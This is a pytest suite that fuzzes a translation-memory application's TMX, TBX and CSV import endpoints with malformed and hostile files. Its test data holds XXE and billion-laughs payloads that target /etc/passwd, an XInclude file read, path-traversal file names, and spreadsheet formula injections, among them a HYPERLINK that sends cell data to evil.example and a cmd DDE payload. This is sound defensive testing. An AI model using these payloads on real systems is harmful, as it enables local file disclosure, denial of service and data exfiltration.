"""Hostile import files, built here case by case, each sent through the API's import routes.

Every case must end in a clear 4xx (and the database exactly as before) or a 200 whose report accounts for
every row (stored, already stored, or a per-line error), within a few seconds, and never leak a local file
into what is stored. The tally is printed at the end of the run (tests/reliability/conftest.py).
"""

from __future__ import annotations

import io
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
from sqlalchemy import text

from tests.helpers import auth

HAND_WRITTEN = Path(__file__).resolve().parents[1] / "data" / "hostile"
TIME_LIMIT_S = 5.0
HANG_LIMIT_S = 60.0
TEN_MB = 10 * 1024 * 1024
LEAK_MARKERS = ("root:x:0:0", "root:*:0:0", "/bin/bash", "/usr/sbin/nologin")


@dataclass(frozen=True)
class Case:
    name: str
    route: str  # tm | terms
    fmt: str  # tmx | csv | tbx
    data: bytes
    expect: str = "reject"  # reject: 4xx only | errors: 4xx or per-line errors | any: never a 500
    units: int | None = None  # data rows the file holds, when it is read at all
    filename: str | None = None  # send as multipart with this name (else as the raw body)

    @property
    def url(self) -> str:
        return f"/api/v1/{self.route}/import?format={self.fmt}"


# ------------------------------------------------------------------ XML (TMX and TBX)


def tmx(
    body: str,
    *,
    header: str | None = None,
    decl: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
    doctype: str = "",
    encoding: str = "utf-8",
) -> bytes:
    header = (
        header
        if header is not None
        else '<header srclang="zh-CN" datatype="plaintext" segtype="sentence" '
        'adminlang="en" creationtool="t" creationtoolversion="1" o-tmf="t"/>'
    )
    return (decl + doctype + f'<tmx version="1.4">{header}<body>{body}</body></tmx>\n').encode(encoding)


def tu(src: str, tgt: str, src_lang: str = "zh-CN", tgt_lang: str = "en") -> str:
    return (
        f'<tu><tuv xml:lang="{src_lang}"><seg>{src}</seg></tuv><tuv xml:lang="{tgt_lang}"><seg>{tgt}</seg></tuv></tu>'
    )


GOOD_TUS = tu("国务院召开常务会议。", "The State Council held an executive meeting.") + tu(
    "全国人民代表大会闭幕。", "The National People's Congress closed."
)


def tbx(
    terms_xml: str,
    *,
    decl: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
    doctype: str = "",
    encoding: str = "utf-8",
) -> bytes:
    return (
        decl + doctype + '<martif type="TBX-Basic" xml:lang="zh-CN"><martifHeader><fileDesc><sourceDesc>'
        "<p>t</p></sourceDesc></fileDesc></martifHeader><text><body>" + terms_xml + "</body></text></martif>\n"
    ).encode(encoding)


def entry(src: str, tgt: str) -> str:
    return (
        f'<termEntry><langSet xml:lang="zh-CN"><tig><term>{src}</term></tig></langSet>'
        f'<langSet xml:lang="en"><tig><term>{tgt}</term></tig></langSet></termEntry>'
    )


GOOD_ENTRIES = entry("国务院", "State Council") + entry("外交部", "Ministry of Foreign Affairs")

XXE = {
    "xxe-file": '<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
    "xxe-http": '<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/evil">]>\n',
    "xxe-parameter": '<!DOCTYPE {root} [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>\n',
    "xxe-public": '<!DOCTYPE {root} [<!ENTITY xxe PUBLIC "-//x//y" "file:///etc/hostname">]>\n',
    "billion-laughs": '<!DOCTYPE {root} [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    + "]>\n",
    "quadratic-blowup": '<!DOCTYPE {root} [<!ENTITY a "' + "x" * 50_000 + '">]>\n',
    "internal-subset": "<!DOCTYPE {root} [<!ELEMENT {root} ANY>]>\n",
    "external-dtd": '<!DOCTYPE {root} SYSTEM "file:///etc/passwd">\n',
    "doctype-lowercase": '<!doctype {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
}
XXE_USE = {
    "xxe-file": "&xxe;",
    "xxe-http": "&xxe;",
    "xxe-public": "&xxe;",
    "billion-laughs": "&l9;",
    "quadratic-blowup": "&a;" * 200,
}


def xml_cases() -> list[Case]:
    cases: list[Case] = []
    for name, doctype in XXE.items():
        use = XXE_USE.get(name, "国务院")
        # a DOCTYPE naming an external DTD is what CAT tools write (OmegaT's tmx11.dtd): accepted, never loaded
        cases.append(
            Case(
                f"tmx-{name}",
                "tm",
                "tmx",
                tmx(tu(use, "State Council"), doctype=doctype.format(root="tmx")),
                expect="any" if name == "external-dtd" else "reject",
            )
        )
        cases.append(
            Case(
                f"tbx-{name}",
                "terms",
                "tbx",
                tbx(entry(use, "State Council"), doctype=doctype.format(root="martif")),
                expect="any" if name == "external-dtd" else "reject",
            )
        )
    xinclude = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    cases += [
        Case("tmx-xinclude", "tm", "tmx", tmx(tu("国务院" + xinclude, "State Council")), expect="any", units=1),
        Case("tbx-xinclude", "terms", "tbx", tbx(entry("国务院", "State Council" + xinclude)), expect="any"),
    ]
    deep = "<g>" * 20_000 + "国务院" + "</g>" * 20_000
    cases += [
        Case("tmx-deep-inline", "tm", "tmx", tmx(tu(deep, "State Council")), expect="errors"),
        Case("tmx-deep-elements", "tm", "tmx", tmx("<x>" * 50_000 + "</x>" * 50_000)),
        Case("tbx-deep-elements", "terms", "tbx", tbx("<x>" * 50_000 + "</x>" * 50_000)),
        Case("tbx-deep-term", "terms", "tbx", tbx(entry("<hi>" * 20_000 + "国务院" + "</hi>" * 20_000, "x"))),
    ]
    utf8_tmx, utf8_tbx = tmx(GOOD_TUS), tbx(GOOD_ENTRIES)
    for label, blob, route, fmt in (("tmx", utf8_tmx, "tm", "tmx"), ("tbx", utf8_tbx, "terms", "tbx")):
        half = len(blob) // 2
        cases += [
            Case(f"{label}-truncated-half", route, fmt, blob[:half]),
            Case(f"{label}-truncated-in-tag", route, fmt, blob[: blob.index(b"<body>") + 3]),
            Case(f"{label}-truncated-after-decl", route, fmt, blob[: blob.index(b"?>") + 2]),
            Case(f"{label}-truncated-mid-char", route, fmt, blob[: blob.index("院".encode()) + 1]),
            Case(f"{label}-truncated-before-end", route, fmt, blob[:-8]),
            Case(f"{label}-invalid-utf8", route, fmt, blob.replace("院".encode(), b"\xff\xfe\xc3")),
            Case(f"{label}-overlong-utf8", route, fmt, blob.replace(b"<body>", b"<body>\xc0\xaf")),
            Case(
                f"{label}-lying-encoding-gb18030",
                route,
                fmt,
                blob.decode().replace("UTF-8", "GB18030", 1).encode("utf-8"),
                expect="any",
                units=2 if fmt == "tmx" else None,
            ),
            Case(f"{label}-gb18030-declared-utf8", route, fmt, blob.decode().encode("gb18030")),
            Case(f"{label}-unknown-encoding", route, fmt, blob.replace(b"UTF-8", b"x-no-such-charset", 1)),
            # XML's own encoding detection reads UTF-16 from the first bytes, whatever the declaration says
            Case(
                f"{label}-utf16-declared-utf8",
                route,
                fmt,
                blob.decode().encode("utf-16-le"),
                expect="any",
                units=2 if fmt == "tmx" else None,
            ),
            Case(f"{label}-utf16-bom-utf8-bytes", route, fmt, b"\xff\xfe" + blob),
            Case(f"{label}-double-bom", route, fmt, b"\xef\xbb\xbf\xef\xbb\xbf" + blob),
            Case(
                f"{label}-bom-after-decl",
                route,
                fmt,
                blob.replace(b"?>", b"?>\xef\xbb\xbf", 1),
                expect="any",
                units=2 if fmt == "tmx" else None,
            ),
            Case(
                f"{label}-bom-before-root",
                route,
                fmt,
                blob.replace(
                    b"<" + (b"tmx" if fmt == "tmx" else b"martif"),
                    b"\xef\xbb\xbf<" + (b"tmx" if fmt == "tmx" else b"martif"),
                    1,
                ),
            ),
            Case(f"{label}-nul-bytes", route, fmt, blob.replace("国".encode(), b"\x00", 1)),
            Case(f"{label}-control-charref", route, fmt, blob.replace("国".encode(), b"&#x1b;", 1)),
            Case(f"{label}-nul-charref", route, fmt, blob.replace("国".encode(), b"&#0;", 1)),
            Case(f"{label}-surrogate-charref", route, fmt, blob.replace("国".encode(), b"&#xD800;", 1)),
            Case(f"{label}-undefined-entity", route, fmt, blob.replace("国".encode(), b"&nbsp;", 1)),
            Case(f"{label}-not-xml", route, fmt, b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4),
            Case(f"{label}-empty-ish", route, fmt, b"   \n\t"),
            Case(f"{label}-only-decl", route, fmt, b'<?xml version="1.0"?>'),
            Case(f"{label}-two-roots", route, fmt, blob + blob.split(b"?>", 1)[1]),
            Case(f"{label}-wrong-root", route, fmt, b'<?xml version="1.0"?><html><body>x</body></html>'),
            Case(
                f"{label}-utf16-with-bom",
                route,
                fmt,
                b"\xff\xfe" + blob.decode().replace("UTF-8", "UTF-16", 1).encode("utf-16-le"),
                expect="any",
                units=2 if fmt == "tmx" else None,
            ),
            Case(
                f"{label}-huge-attribute",
                route,
                fmt,
                blob.replace(b"<body>", b'<body x="' + b"a" * 3_000_000 + b'">'),
                expect="any",
                units=2 if fmt == "tmx" else None,
            ),
            Case(
                f"{label}-many-attributes",
                route,
                fmt,
                blob.replace(b"<body>", b"<body " + b" ".join(b'a%d="1"' % i for i in range(20_000)) + b">"),
                expect="any",
                units=2 if fmt == "tmx" else None,
            ),
            Case(
                f"{label}-processing-instruction",
                route,
                fmt,
                blob.replace(b"<body>", b'<body><?php system("id"); ?>'),
                expect="any",
                units=2 if fmt == "tmx" else None,
            ),
        ]
    cases += [
        Case(
            "tmx-missing-body", "tm", "tmx", b'<?xml version="1.0"?><tmx version="1.4"><header srclang="zh-CN"/></tmx>'
        ),
        Case(
            "tmx-missing-header",
            "tm",
            "tmx",
            b'<?xml version="1.0"?><tmx version="1.4"><body>' + GOOD_TUS.encode() + b"</body></tmx>",
            expect="errors",
            units=2,
        ),
        Case(
            "tmx-tu-outside-body",
            "tm",
            "tmx",
            b'<?xml version="1.0"?><tmx version="1.4"><header srclang="zh-CN"/>' + GOOD_TUS.encode() + b"</tmx>",
            expect="errors",
        ),
        Case(
            "tmx-no-source-language",
            "tm",
            "tmx",
            tmx(tu("国务院", "State Council", "fr", "en") + GOOD_TUS, header="<header/>"),
            expect="errors",
            units=3,
        ),
        Case(
            "tmx-tu-without-source-tuv",
            "tm",
            "tmx",
            tmx('<tu><tuv xml:lang="en"><seg>Only English</seg></tuv></tu>' + GOOD_TUS),
            expect="errors",
            units=3,
        ),
        Case(
            "tmx-tuv-without-lang",
            "tm",
            "tmx",
            tmx("<tu><tuv><seg>国务院</seg></tuv><tuv><seg>x</seg></tuv></tu>" + GOOD_TUS),
            expect="errors",
            units=3,
        ),
        Case(
            "tmx-empty-segments",
            "tm",
            "tmx",
            tmx(tu("", "") + tu("国务院", "") + tu("  ", "x") + GOOD_TUS),
            expect="errors",
            units=5,
        ),
        Case("tmx-empty-tu", "tm", "tmx", tmx("<tu/>" + GOOD_TUS), expect="errors", units=3),
        Case(
            "tmx-seg-missing",
            "tm",
            "tmx",
            tmx('<tu><tuv xml:lang="zh-CN"/><tuv xml:lang="en"/></tu>' + GOOD_TUS),
            expect="errors",
            units=3,
        ),
        Case(
            "tmx-ten-megabyte-segment",
            "tm",
            "tmx",
            tmx(tu("国" * (TEN_MB // 3), "State Council") + GOOD_TUS),
            expect="errors",
            units=3,
        ),
        Case(
            "tmx-ten-megabyte-target", "tm", "tmx", tmx(tu("国务院", "x" * TEN_MB) + GOOD_TUS), expect="errors", units=3
        ),
        Case(
            "tmx-bad-dates",
            "tm",
            "tmx",
            tmx(GOOD_TUS.replace("<tu>", '<tu creationdate="99999999T999999Z">', 1)),
            expect="any",
            units=2,
        ),
        Case(
            "tmx-control-chars-in-seg",
            "tm",
            "tmx",
            tmx(tu("国务院\u0085\u2028\ufeff", "x\u200b") + GOOD_TUS),
            expect="any",
            units=3,
        ),
        Case("tbx-empty-terms", "terms", "tbx", tbx(entry("", "") + GOOD_ENTRIES)),
        Case(
            "tbx-missing-body",
            "terms",
            "tbx",
            b'<?xml version="1.0"?><martif type="TBX-Basic"><martifHeader/></martif>',
            expect="any",
        ),
        Case("tbx-huge-term", "terms", "tbx", tbx(entry("国" * (TEN_MB // 3), "x"))),
        Case(
            "tbx-no-language",
            "terms",
            "tbx",
            tbx("<termEntry><langSet><tig><term>国务院</term></tig></langSet></termEntry>"),
            expect="any",
        ),
    ]
    return cases


# ------------------------------------------------------------------ CSV (memory and glossary)

TM_HEADER = "source,target,source_lang,target_lang,document"
TM_ROWS = [
    "国务院召开常务会议。,The State Council met.,zh-CN,en,doc-a",
    "全国人民代表大会闭幕。,The NPC closed.,zh-CN,en,doc-a",
]
TERMS_HEADER = "source,target,category,status"
TERMS_ROWS = ["国务院,State Council,organization,approved", "外交部,Ministry of Foreign Affairs,organization,approved"]


def csv_bytes(lines: list[str], encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    return (newline.join(lines) + newline).encode(encoding)


def csv_cases() -> list[Case]:
    cases: list[Case] = []
    for route, header, rows in (("tm", TM_HEADER, TM_ROWS), ("terms", TERMS_HEADER, TERMS_ROWS)):
        good = [header, *rows]
        width = header.count(",") + 1
        u = len(rows)
        tm = route == "tm"

        def c(
            name: str, data: bytes, expect: str = "reject", units: int | None = None, route: str = route, tm: bool = tm
        ) -> Case:
            return Case(f"{route}-csv-{name}", route, "csv", data, expect=expect, units=units if tm else None)

        cases += [
            c("wrong-header", csv_bytes(["foo,bar,baz", *rows])),
            c("header-missing-target", csv_bytes([header.replace("target", "zzz"), *rows])),
            c("duplicate-columns", csv_bytes([header + ",source", *[r + ",x" for r in rows]])),
            c("empty-header", csv_bytes(["", *rows])),
            c("header-only", csv_bytes([header]), expect="any", units=0),
            c("semicolons", csv_bytes([header.replace(",", ";"), *[r.replace(",", ";") for r in rows]])),
            c("ragged-short", csv_bytes([header, rows[0], "国务院", rows[1]]), expect="errors", units=u + 1),
            c("ragged-long", csv_bytes([header, rows[0] + ",extra,more", rows[1]]), expect="errors", units=u),
            c("ragged-every-row", csv_bytes([header] + ["a" + "," * i for i in range(30)]), expect="errors", units=30),
            c("unclosed-quote-last", csv_bytes([*good, '"国务院,State Council'])),
            c(
                "unclosed-quote-middle",
                csv_bytes([header, rows[0], '"国务院,"State" Council"', rows[1]]),
                expect="errors",
                units=u + 1,
            ),
            c(
                "quote-in-unquoted-field",
                csv_bytes([*good, '国"务院,State Council' + "," * (width - 2)]),
                expect="errors",
                units=u + 1,
            ),
            c(
                "nul-bytes",
                csv_bytes([*good, "国\x00务院,State\x00Council" + "," * (width - 2)]),
                expect="errors",
                units=u + 1,
            ),
            c("nul-in-header", csv_bytes(["sou\x00rce" + header[6:], *rows])),
            c("invalid-utf8", csv_bytes(good)[:-4] + b"\xff\xfe\r\n", expect="errors", units=u),
            c("gb18030", csv_bytes(good, "gb18030"), expect="errors", units=u),
            c("utf16-bom", csv_bytes(good, "utf-16")),
            c("double-bom", b"\xef\xbb\xbf\xef\xbb\xbf" + csv_bytes(good)),
            c(
                "bom-mid-file",
                csv_bytes([header, rows[0]]) + b"\xef\xbb\xbf" + csv_bytes([rows[1]]),
                expect="any",
                units=u,
            ),
            c("cr-only-lines", csv_bytes(good, newline="\r"), expect="any", units=u),
            c("mixed-newlines", (header + "\n" + rows[0] + "\r\n" + rows[1] + "\r").encode(), expect="any", units=u),
            c(
                "embedded-newlines",
                csv_bytes([header, '"国务院\n召开会议",' + rows[0].split(",", 1)[1], rows[1]]),
                expect="any",
                units=u,
            ),
            c("ten-megabyte-cell", csv_bytes([header, "国" * (TEN_MB // 3) + "," + rows[0].split(",", 1)[1]])),
            c(
                "ten-megabyte-line-of-commas",
                csv_bytes([header, "国" + "," * TEN_MB, *rows]),
                expect="errors",
                units=u + 1,
            ),
            c("many-columns", csv_bytes([header + "," + ",".join(f"c{i}" for i in range(5000)), *rows])),
            c("empty-file", b"\n"),
            c("only-bom", b"\xef\xbb\xbf"),
            c("empty-rows", csv_bytes([header, "," * (width - 1), rows[0], "", rows[1]]), expect="errors", units=u + 1),
            c(
                "control-chars",
                csv_bytes([*good, "国务院\x1b[31m,State\x07Council" + "," * (width - 2)]),
                expect="any",
                units=u + 1,
            ),
            c("binary-garbage", bytes(range(256)) * 100),
            c(
                "formula-injection",
                csv_bytes([header, '=HYPERLINK("http://evil.example/?"&A1;"click"),"=1+2"' + "," * (width - 2), *rows]),
                expect="any",
                units=u + 1,
            ),
            c(
                "formula-variants",
                csv_bytes(
                    [
                        header,
                        *[f"{p}cmd|' /C calc'!A0,{p}SUM(A1:A9)" + "," * (width - 2) for p in ("+", "-", "@", "\t=")],
                        *rows,
                    ]
                ),
                expect="any",
                units=u + 4,
            ),
        ]
    # hand-written files kept in tests/data/hostile/ (small ones worth reading as they are)
    for path in sorted(HAND_WRITTEN.glob("*")):
        fmt = path.suffix.lstrip(".")
        route = "terms" if fmt == "tbx" or path.name.startswith("terms-") else "tm"
        expect = "reject" if path.name.startswith("reject-") else "any"
        cases.append(Case(f"file-{path.name}", route, fmt, path.read_bytes(), expect=expect))
    return cases


TRAVERSAL_NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "a/../../../../tmp/yiku-pwned",
    "\x00.tmx",
    "CON",
    "国务院/../../x.tmx",
    "%2e%2e%2fetc%2fpasswd",
]


def upload_cases() -> list[Case]:
    """Good files sent as multipart with hostile file names: the name never becomes a path."""
    good = {
        ("tm", "tmx"): tmx(GOOD_TUS),
        ("tm", "csv"): csv_bytes([TM_HEADER, *TM_ROWS]),
        ("terms", "csv"): csv_bytes([TERMS_HEADER, *TERMS_ROWS]),
        ("terms", "tbx"): tbx(GOOD_ENTRIES),
    }
    cases = []
    for i, name in enumerate(TRAVERSAL_NAMES):
        (route, fmt), data = list(good.items())[i % len(good)]
        cases.append(
            Case(
                f"upload-name-{i}-{route}-{fmt}",
                route,
                fmt,
                data,
                expect="any",
                units=2 if route == "tm" else None,
                filename=name,
            )
        )
    return cases


CASES = xml_cases() + csv_cases() + upload_cases()


def test_corpus_is_large_enough():
    assert len(CASES) >= 100
    assert len({c.name for c in CASES}) == len(CASES), "case names must be unique"


def _send(client, case: Case, token: str):
    headers = auth(token)
    if case.filename is not None:
        return client.post(
            case.url,
            headers=headers,
            content_type="multipart/form-data",
            data={"file": (io.BytesIO(case.data), case.filename)},
        )
    return client.post(case.url, data=case.data, headers={**headers, "Content-Type": "application/octet-stream"})


def _stored_text(engine) -> str:
    with engine.connect() as conn:
        rows = conn.execute(
            text(
                "SELECT source || ' ' || target FROM segments UNION ALL "
                "SELECT source || ' ' || target || ' ' || note FROM terms"
            )
        ).scalars()
        return "\n".join(rows)


def _count(engine, table: str) -> int:
    with engine.connect() as conn:
        return conn.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_hostile_file(app, client, database, admin_token, db_fingerprint, hostile_tally, case, tmp_path, monkeypatch):
    workdir = tmp_path / "cwd"
    workdir.mkdir()
    monkeypatch.chdir(workdir)  # a relative path built from a file name would land here
    before = db_fingerprint(database.engine)
    segments_before = _count(database.engine, "segments")
    started = time.monotonic()
    with ThreadPoolExecutor(1) as pool:  # a parser that hangs fails the test instead of the run
        resp = pool.submit(lambda: _send(client, case, admin_token)).result(timeout=HANG_LIMIT_S)
    elapsed = time.monotonic() - started
    hostile_tally["tried"] += 1
    hostile_tally["slowest_ms"] = max(hostile_tally["slowest_ms"], int(elapsed * 1000))

    assert resp.status_code < 500, resp.get_json()
    assert elapsed < TIME_LIMIT_S, f"{case.name} took {elapsed:.1f}s"
    body = resp.get_json()
    assert isinstance(body, dict), resp.data[:200]
    assert list(workdir.iterdir()) == [], "an upload wrote into the working directory"

    if resp.status_code >= 400:
        assert set(body) == {"error"} and body["error"]["message"], body
        assert resp.status_code in (400, 413, 415, 422), body
        assert db_fingerprint(database.engine) == before, "a rejected import changed the database"
        hostile_tally["rejected"] += 1
        return

    assert case.expect != "reject", f"{case.name} should have been refused, got {body}"
    report = body
    errors = [e for e in report["errors"] if e.get("line") is not None]
    if case.expect == "errors" or report["errors"]:
        hostile_tally["line_errors" if report["errors"] else "accepted"] += 1
    else:
        hostile_tally["accepted"] += 1
    assert not any(marker in _stored_text(database.engine) for marker in LEAK_MARKERS), "a local file leaked in"
    if case.route == "tm":
        assert _count(database.engine, "segments") - segments_before == report["created"]
    if case.units is not None:
        accounted = report["created"] + report["updated"] + report["skipped"] + len(errors)
        lost = case.units - accounted
        hostile_tally["rows_lost"] += max(lost, 0)
        assert lost == 0, f"{case.name}: {case.units} rows, {accounted} accounted for: {report}"


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def _csv_cells(data: bytes) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_memory_csv_export_neutralizes_formulas(client, admin_token):
    import csv

    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["source", "target"])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([f"{formula}国务院{i}", formula])
    resp = client.post(
        "/api/v1/tm/import?format=csv",
        data=buf.getvalue().encode(),
        headers={**auth(admin_token), "Content-Type": "text/csv"},
    )
    assert resp.status_code == 200 and resp.get_json()["created"] == len(FORMULAS), resp.get_json()
    for fmt_query in ("format=csv", "format=csv&bom=1"):
        cells = _csv_cells(client.get(f"/api/v1/tm/export?{fmt_query}").data)
        dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == [], dangerous
        assert "'" + FORMULAS[0] in cells
    # and the stored text is what was sent (pairs are stored trimmed): neutralizing is an export concern only
    stored = {s["target"] for s in client.get("/api/v1/segments?limit=50").get_json()["items"]}
    assert stored == {f.strip() for f in FORMULAS}


def test_glossary_csv_export_neutralizes_formulas(client, admin_token):
    data = (HAND_WRITTEN / "terms-formula-injection.csv").read_bytes()
    resp = client.post(
        "/api/v1/terms/import?format=csv", data=data, headers={**auth(admin_token), "Content-Type": "text/csv"}
    )
    assert resp.status_code == 200 and resp.get_json()["created"] == 2, resp.get_json()
    cells = _csv_cells(client.get("/api/v1/terms/export?format=csv").data)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
